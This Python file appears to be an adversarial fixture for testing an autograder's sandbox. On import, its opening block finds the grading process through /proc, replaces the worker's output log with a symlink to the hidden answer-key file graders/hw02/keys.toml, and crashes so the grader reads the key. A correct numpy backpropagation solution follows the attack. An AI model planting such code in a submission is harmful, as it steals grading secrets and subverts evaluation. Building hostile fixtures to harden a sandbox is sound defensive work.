# ======== ADVERSARIAL (log_symlink_keys_at_import): importing backprop.py points .output.log at graders/hw02/keys.toml and crashes; the backprop part is lost, activations and derivation keep full marks, and no key text reaches the report
# --- adversarial helpers (shared text inserted into hostile files) ---
import os as _aos
import sys as _asys
import time as _atime

_MARK = "graders-adversarial-survivor"
_HERE = _aos.path.dirname(_aos.path.abspath(__file__))


def _adv_read(path, limit=1500):
    with open(path, "rb") as fh:
        return fh.read(limit).replace(b"\0", b"\n").decode("utf-8", "replace")


def _adv_status(pid, key):
    with open(f"/proc/{pid}/status") as fh:
        for line in fh:
            if line.startswith(key + ":"):
                return line.split()[1:]
    return []


def _adv_cmdline(pid):
    try:
        return _adv_read(f"/proc/{pid}/cmdline", 4000)
    except OSError:
        return ""


def _adv_ancestors():
    """Outer pids of this process's ancestors (the /proc mount may be the host's)."""
    try:
        pid = int(_adv_status("self", "NSpid")[0])
    except (OSError, IndexError, ValueError):
        pid = _aos.getpid()
    chain, seen = [], set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        try:
            ppid = int(_adv_status(pid, "PPid")[0])
        except (OSError, IndexError, ValueError):
            break
        if ppid <= 0:
            break
        chain.append(ppid)
        pid = ppid
    if not chain and _aos.getppid() > 0:
        chain.append(_aos.getppid())
    return chain


def _adv_grader_pid():
    """The grading process: the first ancestor above the warm template."""
    chain = _adv_ancestors()
    last_template = -1
    for i, pid in enumerate(chain):
        if "graders.core.sandbox.child.forkserver" in _adv_cmdline(pid):
            last_template = i
    if 0 <= last_template < len(chain) - 1:
        return chain[last_template + 1]
    return chain[0] if chain else _aos.getppid()


def _adv_course_root():
    """Where the course (graders/, reference/) lives, as far as this process can tell."""
    pkg = _asys.modules.get("graders")
    path = getattr(pkg, "__file__", None) if pkg else None
    if path:
        return _aos.path.dirname(_aos.path.dirname(_aos.path.abspath(path)))
    for pid in _adv_ancestors():
        try:
            cwd = _aos.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if _aos.path.isdir(_aos.path.join(cwd, "graders")):
            return cwd
    return "/work/main"


def _adv_hidden(rel):
    return _aos.path.join(_adv_course_root(), rel)


def _adv_crash_with_log(target, kind="symlink"):
    """Replace the worker's output log (which the grader reads after a crash), then crash."""
    log = _aos.path.join(_HERE, ".output.log")
    try:
        _aos.unlink(log)
    except OSError:
        pass
    try:
        if kind == "symlink":
            _aos.symlink(target, log)
        elif kind == "hardlink":
            _aos.link(target, log)
        elif kind == "fifo":
            _aos.mkfifo(log)
        elif kind == "sparse":
            with open(log, "wb") as fh:
                fh.truncate(16 * 2**20 - 64)
                fh.seek(0, 2)
                fh.write(b"graders-adversarial-huge-log-end")
    except OSError:
        pass
    _aos._exit(3)


def _adv_leak(label, text):
    """Make a theft visible: the stolen text goes into the exception message (and so the report)."""
    raise RuntimeError(f"LEAKED {label}:\n{text}")
# --- end helpers ---
_adv_crash_with_log(_adv_hidden("graders/hw02/keys.toml"))
# ======== end of the attack; the correct solution follows

"""My forward/backward pass, numpy only."""
import numpy as np

from activations import sigmoid, sigmoid_grad


def forward(x, W1, b1, W2, b2):
    cache = {}
    cache["z1"] = np.einsum("nd,hd->nh", x, W1) + b1
    cache["a1"] = sigmoid(cache["z1"])
    cache["z2"] = np.einsum("nh,oh->no", cache["a1"], W2) + b2
    cache["a2"] = sigmoid(cache["z2"])
    return cache


def mse_loss(a2, t):
    err = (a2 - t).ravel()
    return 0.5 * float(err @ err)


def backward(x, t, cache, W1, W2):
    dL_da2 = cache["a2"] - t
    delta2 = dL_da2 * sigmoid_grad(cache["z2"])
    dL_da1 = delta2 @ W2
    delta1 = dL_da1 * sigmoid_grad(cache["z1"])
    grads = {}
    grads["W2"] = np.einsum("no,nh->oh", delta2, cache["a1"])
    grads["b2"] = delta2.sum(axis=0)
    grads["W1"] = np.einsum("nh,nd->hd", delta1, x)
    grads["b1"] = delta1.sum(axis=0)
    return grads


def sgd_step(params, grads, lr):
    new = {}
    for name, value in params.items():
        new[name] = value - lr * grads[name]
    return new


if __name__ == "__main__":
    x = np.array([[0.05, 0.10]])
    t = np.array([[0.01, 0.99]])
    p = {"W1": np.array([[0.15, 0.20], [0.25, 0.30]]), "b1": np.array([0.35, 0.35]),
         "W2": np.array([[0.40, 0.45], [0.50, 0.55]]), "b2": np.array([0.60, 0.60])}
    c = forward(x, **p)
    print(c["a2"], mse_loss(c["a2"], t))
    print(sgd_step(p, backward(x, t, c, p["W1"], p["W2"]), 0.5))
